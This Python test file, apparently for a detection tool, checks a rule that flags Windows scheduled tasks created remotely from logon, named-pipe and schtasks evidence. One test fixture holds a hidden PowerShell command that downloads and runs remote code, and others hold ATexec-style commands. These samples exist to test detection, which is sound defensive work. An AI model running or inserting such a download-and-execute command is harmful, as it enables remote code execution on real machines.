"""Tasks registered over the network: told by the logon, the pipe or the event's own words; and what is none."""

from __future__ import annotations

from tests.analysis.logged import audited, definition, event, logon, named, process
from tests.material import shared
from tests.rules.happened import DAY, cites, of_logs
from tests.rules.made import findings, one
from tests.scanning import scanned
from triptych.model.event import Event
from triptych.model.finding import Confidence, Severity

PLAIN = definition("C:\\Program Files\\Tool\\tool.exe", "-q")
SCHTASKS = "C:\\Windows\\System32\\schtasks.exe"


def pipe(seconds: float, address: str = "10.0.0.9", name: str = "eve") -> Event:
    return event(
        5145, seconds, SubjectDomainName="LAB", SubjectUserName=name, SubjectLogonId="0x77", IpAddress=address,
        ShareName="\\\\*\\IPC$", RelativeTargetName="atsvc",
    )  # fmt: skip


def test_a_network_logon_behind_a_registration() -> None:
    came, made = logon(-5), audited(4698, 0, content=PLAIN)
    finding = one(of_logs(came, made), "created-remotely")
    assert (finding.severity, finding.confidence, finding.task) == (Severity.MEDIUM, Confidence.CERTAIN, "\\Evil")
    assert "from 10.0.0.9" in finding.summary
    assert "type 3" in finding.why
    assert "tool.exe" in finding.why
    assert cites(finding, came, made)


def test_records_may_be_told_out_of_order() -> None:
    came, made = logon(3), audited(4698, 0, content=PLAIN)
    assert cites(one(of_logs(made, came), "created-remotely"), came, made)


def test_an_interactive_logon_is_nothing() -> None:
    for kind in ("2", "10", "4", "5"):
        assert findings(of_logs(logon(-5, kind=kind), audited(4698, 0, content=PLAIN)), "created-remotely") == []


def test_another_computers_logon_of_that_number_is_nothing() -> None:
    assert findings(of_logs(logon(-5, computer="WS-2"), audited(4698, 0, content=PLAIN)), "created-remotely") == []
    assert findings(of_logs(audited(4698, 0, content=PLAIN), logon(3, computer="WS-2")), "created-remotely") == []


def test_a_registration_through_a_local_process_is_nothing() -> None:
    made = audited(4698, 0, content=PLAIN, RpcCallClientLocality="0", ClientProcessId="7356")
    assert findings(of_logs(made), "created-remotely") == []


def test_the_events_own_words_count_less() -> None:
    remote = audited(4698, 0, content=PLAIN, RpcCallClientLocality="2", ClientProcessId="7356")
    assert one(of_logs(remote), "created-remotely").confidence is Confidence.LIKELY
    nobody = audited(4698, 0, content=PLAIN, RpcCallClientLocality="0", ClientProcessId="0")
    assert one(of_logs(nobody), "created-remotely").confidence is Confidence.POSSIBLE


def test_no_process_named_says_nothing_where_the_logon_is_known_to_be_interactive() -> None:
    nobody = audited(4698, 0, content=PLAIN, RpcCallClientLocality="0", ClientProcessId="0")
    assert findings(of_logs(logon(-5, kind="2"), nobody), "created-remotely") == []


def test_the_pipe_gives_the_address_that_the_logon_does_not_tell() -> None:
    finding = one(of_logs(logon(-5, address="-"), pipe(-1), audited(4698, 0, content=PLAIN)), "created-remotely")
    assert "10.0.0.9" in finding.summary


def test_what_is_suspicious_or_gone_in_minutes_is_high() -> None:
    evil = definition("powershell.exe", "-w hidden -c iex (New-Object Net.WebClient).DownloadString('http://x/a')")
    assert one(of_logs(logon(-5), audited(4698, 0, content=evil)), "created-remotely").severity is Severity.HIGH
    gone = of_logs(logon(-5), audited(4698, 0, content=PLAIN), audited(4699, 20))
    assert one(gone, "created-remotely").severity is Severity.HIGH


def test_management_that_does_so_for_weeks_is_low() -> None:
    events = [
        each
        for day in range(0, 28, 7)
        for each in (logon(day * DAY - 5, f"0x5a4{day}"), audited(4698, day * DAY, f"\\Job {day}", PLAIN, logon_id=f"0x5a4{day}"))
    ]
    assert {finding.severity for finding in findings(of_logs(*events), "created-remotely")} == {Severity.LOW}


def test_the_pipe_alone_is_a_low_hint_without_a_task() -> None:
    finding = one(of_logs(pipe(0)), "created-remotely")
    assert (finding.task, finding.severity, finding.confidence) == (None, Severity.LOW, Confidence.POSSIBLE)
    assert findings(of_logs(pipe(0), audited(4698, 600, content=PLAIN)), "created-remotely") == []


def test_a_task_made_on_another_computer_from_here() -> None:
    line = "schtasks /create /s fs02 /tn Far /tr a.exe /sc daily"
    made = process(0, 12, SCHTASKS, line)
    finding = one(of_logs(made), "created-remotely")
    assert (finding.task, finding.severity) == ("\\Far", Severity.MEDIUM)
    assert "on the computer fs02" in finding.summary
    assert cites(finding, made)
    assert findings(of_logs(process(0, 12, SCHTASKS, line.replace("/s fs02 ", ""))), "created-remotely") == []


def test_a_query_of_another_computer_is_nothing() -> None:
    assert findings(of_logs(process(0, 12, SCHTASKS, "schtasks /query /s fs02 /tn Far")), "created-remotely") == []


def test_the_atexec_log_is_told_whole() -> None:
    log = "ID4688,4698,4699,5145,4624-ATexec remote trask creation (GLOBAL).evtx"
    case = scanned(shared(f"data/evtx/mdecrevoisier/{log}")).case
    remote = one(case, "created-remotely")
    assert (remote.severity, remote.task) == (Severity.HIGH, "\\bouWFQYO")
    for words in ("OFFSEC\\admmig", "10.23.123.11", "0x5a419bc", "type 3", "cmd.exe /C whoami", "process 976"):
        assert words in remote.why + remote.summary, words
    assert one(case, "created-and-deleted").severity is Severity.HIGH
    assert one(case, "command-suspicious").task == "\\bouWFQYO"


def test_events_of_the_schedulers_log_alone_say_nothing_of_the_network() -> None:
    assert findings(of_logs(logon(-5), named(106, 0)), "created-remotely") == []
